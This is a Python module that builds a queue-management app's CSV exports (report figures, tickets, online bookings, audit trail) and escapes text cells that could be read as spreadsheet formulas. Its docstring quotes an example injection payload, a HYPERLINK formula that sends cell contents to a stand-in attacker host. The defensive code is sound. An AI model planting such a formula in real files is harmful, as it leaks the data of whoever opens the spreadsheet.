"""Every CSV file the app offers is written here: the one writer (`csv_text`), the rule that
keeps a text cell from being read as a formula when someone opens the file in a spreadsheet,
and each file's columns and cells — a report's figures and tickets, a day's audit trail. The
views only hand the text out (web/common.csv_response).

CSV (formula) injection: a service named `=HYPERLINK("http://evil.example/?leak="&A1,"Klik")`
would be a live formula in the supervisor's spreadsheet. Following OWASP, a text cell that
starts with `=`, `+`, `-`, `@`, TAB or CR gets a leading apostrophe, which spreadsheets read as
"this is text". Only text is touched: numbers (ints and floats) are written by the code, never
by a user, and a figure such as `-3` must stay a number a spreadsheet can sum.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterable, Sequence

from sqlalchemy.orm import Session

from ..domain.numbering import site_zone
from ..domain.reports import BookingFigures, ChannelFigures, Figures, Stats, TicketRecord
from ..domain.vocabulary import Outcome
from . import audit
from .audit import AuditDay
from .reports import KNOWN_REASONS, HallReport

#: What a spreadsheet may read as the start of a formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_cell(value: object) -> object:
    """`value` as a cell no spreadsheet evaluates: text starting like a formula gets a leading
    `'`; everything else (numbers, ordinary text) is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_text(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """A CSV file (header row first, `\\n` line ends) whose every cell went through
    `spreadsheet_cell`."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow([spreadsheet_cell(cell) for cell in header])
    writer.writerows([spreadsheet_cell(cell) for cell in row] for row in rows)
    return out.getvalue()


# -- the files ------------------------------------------------------------------------------

#: The counts of a report's group, in the order of the API's `Figures` (a test checks it).
FIGURE_COLUMNS = [
    "issued",
    "called",
    "served",
    "no_show",
    "cancelled",
    "expired",
    "transferred",
    "refused_quota",
    "closed_early",
    "visits_saved",
]
DURATION_COLUMNS = [
    f"{kind}_{stat}_s" for kind in ("wait", "walk", "service") for stat in ("mean", "median", "p90")
]
#: Served tickets by outcome (issue 18), then the incomplete-documents rate (0–1).
OUTCOME_COLUMNS = [*(f"outcome_{o.value}" for o in Outcome), "incomplete_documents_rate"]
TICKET_COLUMNS = [
    "code",
    "service",
    "service_day",
    "number",
    "priority",
    "channel",
    "state",
    "final_service",
    "counter",
    "staff",
    "issued_at",
    "admitted_at",
    "first_called_at",
    "last_called_at",
    "started_at",
    "finished_at",
    "closed_at",
    "outside_s",
    "wait_s",
    "walk_s",
    "service_s",
    "calls",
    "recalls",
    "transfers",
    "outcome",
]
AUDIT_COLUMNS = [
    "at",
    "kind",
    "user",
    "action",
    "subject",
    "counter",
    "service",
    "from",
    "to",
    "detail",
]


def report_aggregates(report: HallReport) -> str:
    """A report's figures, one row per group: the total, each service, counter, staff member
    and hour."""
    rows: list[tuple[str, object, str, Figures]] = [("total", "", "", report.report.totals)]
    rows += [("service", s.code, s.name_id, f) for s, f in report.service_rows()]
    rows += [("counter", c.number, c.label, f) for c, f in report.counter_rows()]
    rows += [("staff", name, name, f) for _, name, f in report.staff_rows()]
    rows += [("hour", f"{h:02d}", f"{h:02d}:00", f) for h, f in report.hour_rows()]
    return csv_text(
        ["group", "key", "name", *FIGURE_COLUMNS, *DURATION_COLUMNS, *OUTCOME_COLUMNS],
        (
            [
                group,
                key,
                name,
                *(getattr(figures, column) for column in FIGURE_COLUMNS),
                *_stat_cells(figures.wait),
                *_stat_cells(figures.walk),
                *_stat_cells(figures.service),
                *(figures.outcomes[o.value] for o in Outcome),
                _rate_cell(figures.incomplete_documents_rate),
            ]
            for group, key, name, figures in rows
        ),
    )


#: The figures of an agency's or a zone's row (issue 15's press-release table), after its names
#: and before the refusal reasons' columns (`refused_<reason>`) and the outcome columns.
MALL_COLUMNS = ["applicants", "issued", "served", "refused"]
MALL_TAIL_COLUMNS = [
    "no_show",
    "cancelled",
    "expired",
    "transferred",
    "wait_mean_s",
    "wait_p90_s",
    "service_mean_s",
    "service_p90_s",
]


def report_agencies(report: HallReport) -> str:
    """Per agency, one row each (every agency of the site): applicants, served, refused by
    reason, no-shows, wait and service time, outcomes; then the total."""
    rows: list[tuple[list[object], Figures]] = [
        ([a.code, a.name_id, a.name_en], f) for a, f in report.agency_rows()
    ]
    rows.append((["total", "", ""], report.report.totals))
    return _mall_csv(report, ["agency", "name", "name_en"], rows)


def report_zones(report: HallReport) -> str:
    """Per zone, one row each (every zone of the site), the same columns; then the total."""
    rows: list[tuple[list[object], Figures]] = [
        ([z.name, z.floor, "" if z.cap is None else z.cap], f) for z, f in report.zone_rows()
    ]
    rows.append((["total", "", ""], report.report.totals))
    return _mall_csv(report, ["zone", "floor", "capacity"], rows)


def _mall_csv(
    report: HallReport, names: list[str], rows: list[tuple[list[object], Figures]]
) -> str:
    # Every known reason always has its column; a reason not known gets one when it occurred.
    reasons = [*KNOWN_REASONS, *(r for r in report.refusal_reasons if r not in KNOWN_REASONS)]
    return csv_text(
        [
            *names,
            *MALL_COLUMNS,
            *(f"refused_{r}" for r in reasons),
            *MALL_TAIL_COLUMNS,
            *OUTCOME_COLUMNS,
        ],
        (
            [
                *cells,
                f.applicants,
                f.issued,
                f.served,
                f.refused,
                *(f.refusals.get(r, 0) for r in reasons),
                f.no_show,
                f.cancelled,
                f.expired,
                f.transferred,
                _seconds_cell(f.wait.mean),
                _seconds_cell(f.wait.p90),
                _seconds_cell(f.service.mean),
                _seconds_cell(f.service.p90),
                *(f.outcomes[o.value] for o in Outcome),
                _rate_cell(f.incomplete_documents_rate),
            ]
            for cells, f in rows
        ),
    )


#: Online registration (issue 16): what identifies a row, then its bookings, then the channels
#: of its tickets (empty on a session's row: a walk-in has no session).
BOOKING_KEY_COLUMNS = ["group", "service", "agency", "starts", "ends", "name"]
BOOKING_COLUMNS = [
    "sessions",
    "places",
    "booked",
    "checked_in",
    "cancelled",
    "expired",
    "no_show",
    "late_walk_in",
    "still_booked",
    "show_rate",
    "cancel_rate",
]
CHANNEL_COLUMNS = ["tickets_issued", "tickets_online", "tickets_walk_in", "online_share"]


def report_bookings(report: HallReport) -> str:
    """A report's online bookings, one row per session time (`group` session), service,
    agency, and the total; session times in the hall's local time."""
    agency_codes = {a.id: a.code for a in report.agencies}
    rows: list[tuple[list[object], BookingFigures, ChannelFigures | None]] = []
    rows += [
        (
            [
                "session",
                s.code,
                agency_codes.get(s.agency_id, ""),
                key.starts.strftime("%H:%M"),
                key.ends.strftime("%H:%M"),
                s.name_id,
            ],
            f,
            None,
        )
        for s, key, f in report.session_rows()
    ]
    rows += [
        (["service", s.code, agency_codes.get(s.agency_id, ""), "", "", s.name_id], f, c)
        for s, f, c in report.booking_service_rows()
    ]
    rows += [
        (["agency", "", a.code, "", "", a.name_id], f, c)
        for a, f, c in report.booking_agency_rows()
    ]
    made = report.bookings
    rows.append((["total", "", "", "", "", ""], made.totals, made.channels))
    return csv_text(
        [*BOOKING_KEY_COLUMNS, *BOOKING_COLUMNS, *CHANNEL_COLUMNS],
        (
            [
                *keys,
                f.sessions,
                f.places,
                f.booked,
                f.checked_in,
                f.cancelled,
                f.expired,
                f.no_show,
                f.late_walk_in,
                f.still_booked,
                _rate_cell(f.show_rate),
                _rate_cell(f.cancel_rate),
                *(
                    ["", "", "", ""]
                    if c is None
                    else [c.issued, c.online, c.walk_in, _rate_cell(c.online_share)]
                ),
            ]
            for keys, f, c in rows
        ),
    )


def report_tickets(report: HallReport) -> str:
    """A report's tickets, one row each: codes, outcome, where it ended, every timestamp
    (local time, ISO 8601 with offset) and every duration in seconds."""
    return csv_text(TICKET_COLUMNS, (_ticket_cells(report, r) for r in report.report.records))


def audit_trail(session: Session, query: AuditDay) -> str:
    """A day's whole audit trail in order: local times, the raw action and field names, each
    line's detail as JSON (for spreadsheets and scripts; the page says it in words)."""
    zone = site_zone(query.site.timezone)
    return csv_text(
        AUDIT_COLUMNS,
        (
            [
                entry.at.astimezone(zone).isoformat(timespec="seconds"),
                entry.kind,
                entry.user or "",
                entry.action,
                entry.subject,
                "" if entry.counter is None else entry.counter,
                entry.service or "",
                entry.from_state or "",
                entry.to_state or "",
                json.dumps(entry.detail, ensure_ascii=False, sort_keys=True)
                if entry.detail
                else "",
            ]
            for entry in audit.every_entry(session, query)
        ),
    )


def _ticket_cells(report: HallReport, r: TicketRecord) -> list[object]:
    codes = report.service_codes
    return [
        r.ticket.code,
        codes.get(r.ticket.issued_service_id, ""),
        r.ticket.service_day.isoformat(),
        r.ticket.number,
        r.ticket.priority or "",
        r.ticket.channel,
        r.state.value,
        codes.get(r.final_service_id, ""),
        report.counter_numbers.get(r.counter_id, "") if r.counter_id else "",
        report.usernames.get(r.staff_id, "") if r.staff_id else "",
        *(
            report.local_iso(t, timespec="seconds") or ""
            for t in (
                r.issued_at,
                r.admitted_at,
                r.first_called_at,
                r.last_called_at,
                r.started_at,
                r.finished_at,
                r.closed_at,
            )
        ),
        *(
            _seconds_cell(v)
            for v in (
                r.outside_s,
                r.durations.wait_s,
                r.durations.walk_s,
                r.durations.service_s,
            )
        ),
        r.calls,
        r.recalls,
        r.transfers,
        r.outcome or "",
    ]


def _rate_cell(value: float | None) -> object:
    return "" if value is None else round(value, 4)


def _stat_cells(s: Stats) -> list[object]:
    return [_seconds_cell(v) for v in (s.mean, s.median, s.p90)]


def _seconds_cell(value: float | None) -> object:
    if value is None:
        return ""
    return round(value, 1) if value != int(value) else int(value)
